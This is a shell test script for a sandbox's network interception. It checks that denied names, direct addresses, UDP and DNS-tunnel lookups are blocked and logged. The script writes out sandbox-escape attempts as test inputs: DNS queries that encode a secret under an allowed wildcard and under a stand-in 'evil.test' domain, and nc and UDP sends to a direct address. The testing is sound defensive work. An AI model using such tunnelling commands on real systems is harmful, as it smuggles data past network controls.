#!/bin/bash
# Escape class: interception (N1, N4). With no proxy variables at all
# (env -i), clients that resolve names themselves reach an allowed host
# through the sandbox's DNS answerer and TCP interception, and through the
# proxy's decision only: a denied or unlisted name gets NXDOMAIN and a
# violation, a direct address is judged like a CONNECT to it, UDP out is
# dropped, and no query (a DNS tunnel's made-up labels under an allowed
# wildcard included) reaches a resolver. The test runs in network and
# mount namespaces of its own: /etc/hosts names the loopback servers for
# the proxy (c-ares reads it first; the sandbox is denied it, so its
# clients ask DNS) and /etc/resolv.conf names 127.0.0.1:53, where a
# resolver counts every query it gets and answers none.
NETNS_UNSHARE=-rnm
. "$(dirname "$0")/netns.sh"
cat > "$WORK/hosts" <<EOF2
127.0.0.1 localhost
127.0.0.1 denied.icept.test
EOF2
echo "nameserver 127.0.0.1" > "$WORK/resolv.conf"
if ! netns_setup || ! mount --bind "$WORK/hosts" /etc/hosts 2>/dev/null ||
   ! mount --bind "$WORK/resolv.conf" /etc/resolv.conf 2>/dev/null; then
	skip "N1 interception needs network and mount namespaces of its own (unshare -rnm), ip(8) and mount(8)"
	echo "1..$_tap_n"; exit 0
fi
cat > "$WORK/resolver.py" <<'PYEOF'
import socket, sys, threading
log = sys.argv[1]
def note(s):
    open(log, "a").write(s + "\n")
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("127.0.0.1", 53))
t = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); t.bind(("127.0.0.1", 53)); t.listen(8)
def tcp():
    while True:
        c, _ = t.accept(); note("tcp query"); c.close()
threading.Thread(target=tcp, daemon=True).start()
open(log + ".up", "w").close()
while True:
    d, a = u.recvfrom(4096); note("udp query %r" % d[12:80])
PYEOF
: > "$WORK/resolver.log"
"$PY" "$WORK/resolver.py" "$WORK/resolver.log" & NET_PIDS="$NET_PIDS $!"
wait_for "$WORK/resolver.log.up" 50
net_server http WEB
net_server ssh SSHD

# the test's servers are on loopback, which the address guard lets through
# for the name localhost alone; the sandbox asks DNS for it like any name
S=$(net_settings '["localhost","*.tunnel.icept.test"]' '["denied.icept.test"]')
# and its second name, the file bound there (srt refuses a denied path
# that another mount shows)
sed -i 's|"denyRead":\["~/.ssh"\]|"denyRead":["~/.ssh","/etc/hosts","'"$WORK"'/hosts"]|' "$S"
E='env -i PATH=/usr/bin:/bin NO_PROXY=* no_proxy=*'
cat > "$P.py" <<PYEOF
import urllib.request
print("py", urllib.request.urlopen("http://localhost:$WEB_PORT/py", timeout=10).status)
PYEOF
mkdir -p "$P"
cp "$P.py" "$P/client.py"
cat > "$P/client.js" <<JSEOF
const http = require("http");
fetch("http://localhost:$WEB_PORT/node-fetch").then(r => {
  console.log("fetch", r.status);
  http.get("http://localhost:$WEB_PORT/node-get", res => {
    console.log("get", res.statusCode);
    process.exit(0); // kept-alive sockets would hold the process
  }).on("error", e => { console.log("get failed", e.code); process.exit(1); });
}).catch(e => { console.log("fetch failed", e.cause ? e.cause.code : e); process.exit(1); });
JSEOF
secret=$(head -c 30 /dev/urandom | od -An -tx1 | tr -d ' \n')
cd "$P" || exit 1
srt__run -d --settings "$S" -c "
	$E getent hosts localhost; echo getent-allowed=\$?
	$E getent hosts denied.icept.test; echo getent-denied=\$?
	$E getent hosts unlisted.example.org; echo getent-unlisted=\$?
	for i in 1 2 3 4 5 6 7 8; do $E getent hosts $secret\$i.tunnel.icept.test >/dev/null && echo tunnel-answered; done
	$E getent hosts $secret.x.evil.test; echo getent-evil=\$?
	$E python3 client.py
	if command -v node >/dev/null; then $E node client.js; else echo fetch 200; echo get 200; fi
	echo bye | $E nc -w 5 localhost $SSHD_PORT | head -1
	echo x | $E nc -w 5 192.0.2.1 22; echo nc-direct=\$?
	$E python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(b\"x\", (\"192.0.2.1\", 53)); print(\"udp sent\")
except OSError as e: print(\"udp refused\", e.errno)'
" >"$WORK/out" 2>"$WORK/err"
cd "$WORK" || exit 1
sleep 0.3
attempt N1 "getent of an allowed name answers a synthetic 198.18/15 address" grep -q '^198\.1[89]\.[0-9.]* *localhost' "$WORK/out"
attempt N4 "the denied and the unlisted name get no address" \
	sh -c "grep -q '^getent-denied=2' '$WORK/out' && grep -q '^getent-unlisted=2' '$WORK/out'"
attempt N4 "violations name them" \
	sh -c "grep -q 'deny network-outbound denied.icept.test (DNS query' '$WORK/err' && grep -q 'deny network-outbound unlisted.example.org (DNS query' '$WORK/err'"
attempt N1 "python urllib with NO_PROXY=* and no proxy variables: 200 ($(grep '^py' "$WORK/out"))" \
	sh -c "grep -q '^py 200' '$WORK/out' && grep -q '^GET /py ' '$WEB_LOG'"
attempt N1 "node fetch and http.get with no proxy variables: 200 ($(grep -E '^(fetch|get)' "$WORK/out" | tr '\n' ' '))" \
	sh -c "grep -q '^fetch 200' '$WORK/out' && grep -q '^get 200' '$WORK/out'"
attempt N1 "the server saw the intercepted requests without proxy credentials" \
	grep -q "^GET /py HTTP/1.1 host=localhost:$WEB_PORT proxyauth=no" "$WEB_LOG"
attempt N1 "nc to an allowed host:port is an opaque tunnel (SSH banner both ways)" \
	sh -c "grep -q '^SSH-2.0-srt__fake_server' '$WORK/out' && grep -q 'client bye' '$SSHD_LOG'"
attempt N1 "nc to a direct address off the allow list: refused and recorded" \
	sh -c "grep -q 'deny network-outbound 192.0.2.1:22 (host is not on the allow list)' '$WORK/err'"
attempt N2 "UDP to a non-loopback address is dropped ($(grep '^udp' "$WORK/out"))" grep -q '^udp refused' "$WORK/out"
attempt N4 "DNS tunnel: made-up labels under an allowed wildcard answered synthetically ($(grep -c tunnel-answered "$WORK/out") of 8)" \
	test "$(grep -c tunnel-answered "$WORK/out")" = 8
attempt N4 "DNS tunnel: the proxy looked none of them up" sh -c "! grep -q 'resolving .*$secret' '$WORK/err'"
attempt N4 "a tunnel under a suffix the policy does not allow: NXDOMAIN and a violation" \
	sh -c "grep -q '^getent-evil=2' '$WORK/out' && grep -q 'deny network-outbound $secret.x.evil.test (DNS' '$WORK/err'"
attempt N4 "the counting resolver saw no query at all ($(wc -l < "$WORK/resolver.log"))" test ! -s "$WORK/resolver.log"

# network.intercept "off": the reference's behaviour, said by --explain
OFF=$WORK/off.json
sed 's/"allowedDomains"/"intercept":"off","allowedDomains"/' "$S" > "$OFF"
cd "$P" || exit 1
srt__run --settings "$OFF" -c "$E getent hosts localhost; echo getent=\$?; $E python3 client.py" >"$WORK/out-off" 2>&1
attempt N1 "interception off: no answer, no connection" \
	sh -c "grep -q '^getent=2' '$WORK/out-off' && ! grep -q '^py 200' '$WORK/out-off'"
a=$(srt__run --explain --settings "$S" -c true 2>&1 | grep '^interception:')
b=$(srt__run --explain --settings "$OFF" -c true 2>&1 | grep '^interception:')
attempt N1 "--explain names the mode ($a | $b)" sh -c "echo '$a' | grep -q '^interception: on' && echo '$b' | grep -q '^interception: off'"
cd "$WORK" || exit 1
echo "1..$_tap_n"
